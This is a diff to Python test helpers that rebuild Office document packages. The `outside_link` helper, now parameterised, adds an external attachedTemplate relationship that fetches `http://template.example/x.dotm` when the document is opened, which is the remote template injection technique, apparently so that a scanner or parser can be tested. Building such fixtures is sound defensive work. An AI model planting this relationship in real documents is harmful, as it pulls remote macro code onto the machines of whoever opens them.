@@ -97,7 +97,10 @@ def paper() -> bytes:
 def with_part(content: bytes, name: str, part: bytes) -> bytes:
     """The same package with one part more, or another one of this name."""
     file = BytesIO()
-    with zipfile.ZipFile(BytesIO(content)) as old, zipfile.ZipFile(file, "w") as new:
+    with (
+        zipfile.ZipFile(BytesIO(content)) as old,
+        zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as new,
+    ):
         for entry in old.namelist():
             if entry != name:
                 new.writestr(entry, old.read(entry))
@@ -105,11 +108,17 @@ def with_part(content: bytes, name: str, part: bytes) -> bytes:
     return file.getvalue()
 
 
-def outside_link(content: bytes, main: str) -> bytes:
+def outside_link(
+    content: bytes,
+    main: str,
+    *,
+    kind: bytes = b"attachedTemplate",
+    target: bytes = b"http://template.example/x.dotm",
+    mode: bytes = b"External",
+) -> bytes:
     """The same document, with a template that is fetched when it is opened."""
     link = (
         b'<Relationships xmlns="urn:package-relationships"><Relationship Id="r1" '
-        b'Type="urn:relationships/attachedTemplate" '
-        b'Target="http://template.example/x.dotm" TargetMode="External"/></Relationships>'
+        b'Type="urn:relationships/' + kind + b'" Target="' + target + b'" TargetMode="' + mode + b'"/></Relationships>'
     )
     return with_part(content, main, link)
